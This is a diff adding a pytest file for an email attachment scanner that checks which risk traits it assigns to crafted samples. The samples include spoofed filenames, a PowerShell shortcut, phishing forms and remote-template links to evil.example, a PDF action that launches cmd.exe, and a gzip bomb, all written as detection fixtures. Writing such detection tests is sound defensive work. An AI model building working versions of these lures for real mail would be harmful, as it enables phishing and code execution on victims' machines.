@@ -1,0 +1,90 @@
+"""Files that come with a mail are looked into, never opened."""
+
+import gzip
+
+import pytest
+
+from tests.mail import made
+from tojimari.mail.reading import read_file
+
+
+def traits(data: bytes) -> set[str]:
+    [found] = read_file(data)
+    return {trait.id for each in found.attachments for trait in each.traits}
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "expected"),
+    [
+        ("invoice.exe", made.PROGRAM, {"program"}),
+        ("invoice.pdf.exe", made.PROGRAM, {"program", "two_endings"}),
+        ("photo.jpg", made.PROGRAM, {"program", "other_than_named"}),
+        ("見積\u202efdp.exe", made.PROGRAM, {"program", "name_reversed"}),
+        ("invoice.pdf" + " " * 60 + ".scr", made.PROGRAM, {"program", "two_endings", "name_hidden_end"}),
+        ("a.js", b"var x = 1", {"script"}),
+        ("a.hta", b"<html><script>1</script></html>", {"script"}),
+        ("請求書.zip", made.encrypted_zip(), {"encrypted"}),
+        ("請求書.zip", made.zipped(seikyu__pdf__exe=made.PROGRAM), {"program", "two_endings"}),
+        ("a.zip", made.zipped(inner__zip=made.zipped(a__js=b"x")), {"script"}),
+        ("a.iso", made.disk_image("setup.exe", made.PROGRAM), {"disk_image", "program"}),
+        ("a.lnk", made.shortcut("/c powershell -enc AAAA"), {"shortcut", "starts_program"}),
+        ("a.url", b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n", {"shortcut"}),
+        ("a.html", made.SMUGGLING, {"smuggling", "scripted_page"}),
+        ("a.svg", b'<svg xmlns="x"><script>location.href="https://evil.example"</script></svg>', {"svg_script"}),
+        ("login.htm", b"<html><form action='https://evil.example/p'><input type=password></form></html>", {"password_form"}),
+        ("a.one", made.onenote(made.PROGRAM), {"embedded_object", "program"}),
+        ("a.one", made.onenote(b"@echo off\r\npowershell x"), {"embedded_object"}),
+        ("a.docm", made.openxml(word__vbaProject=b"x"), {"macro"}),
+        ("a.docx", made.openxml(**{"word__vbaProject.bin": b"x"}), {"macro"}),
+        ("a.xlsx", made.openxml(**{"xl__macrosheets__sheet1.xml": b"x"}), {"macro"}),
+        ("a.docx", made.openxml(**{"word___rels__settings.xml.rels": b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'}), {"fetches_when_opened"}),
+        ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}", {"embedded_object"}),
+        ("a.pdf", made.pdf(opens="/OpenAction<</S/Launch/F(cmd.exe)>>"), {"pdf_starts_program"}),
+        ("a.pdf", made.pdf(opens="/OpenAction<</S/#4aavaScript/JS(x)>>"), {"pdf_script"}),
+        ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40, {"not_looked_into"}),
+        ("a.gz", gzip.compress(b"\x00" * 200_000_000), {"too_large"}),
+        ("a.pdf", made.pdf("https://shop.example"), set()),
+        ("a.csv", "品名,数\n".encode("cp932"), set()),
+        ("a.docx", made.openxml(**{"word__document.xml": b"<w/>"}), set()),
+        ("a.png", made.code("hello"), set()),
+        ("a.zip", made.zipped(a__txt=b"x"), set()),
+    ],
+)  # fmt: skip
+def test_what_is_of_note_in_a_file(name, data, expected):
+    assert traits(made.attached(name, data)) == expected
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "place"),
+    [
+        ("a.png", made.code("https://evil.example/qr"), "picture"),
+        ("a.pdf", made.pdf("https://evil.example/pdf"), "attachment"),
+        ("a.zip", made.zipped(a__pdf=made.pdf("https://evil.example/pdf")), "attachment"),
+        ("a.url", b"[InternetShortcut]\r\nURL=https://evil.example\r\n", "attachment"),
+        ("a.html", b"<html><a href='https://evil.example'>x</a></html>", "link"),
+    ],
+)
+def test_where_a_file_leads_is_where_the_mail_leads(name, data, place):
+    [found] = read_file(made.attached(name, data))
+    assert [(each.host, each.place) for each in found.links] == [("evil.example", place)]
+
+
+def test_names_in_a_zip_of_japanese_windows_are_read():
+    data = made.zipped(a__exe=made.PROGRAM)
+    data = data.replace(b"a.exe", "請求.exe".encode("cp932")[-5:])
+    [found] = read_file(made.attached("a.zip", data))
+    assert found.attachments[1].within == ("a.zip",)
+    assert found.attachments[1].kind == "program"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"PK\x03\x04" + b"\x00" * 50,
+        b"%PDF-1.7\nnothing",
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 600,
+    ],
+)
+def test_what_cannot_be_read_is_said(data):
+    [found] = read_file(made.attached("a.bin", data))
+    assert [each.id for each in found.gaps] == ["damaged_attachment"]
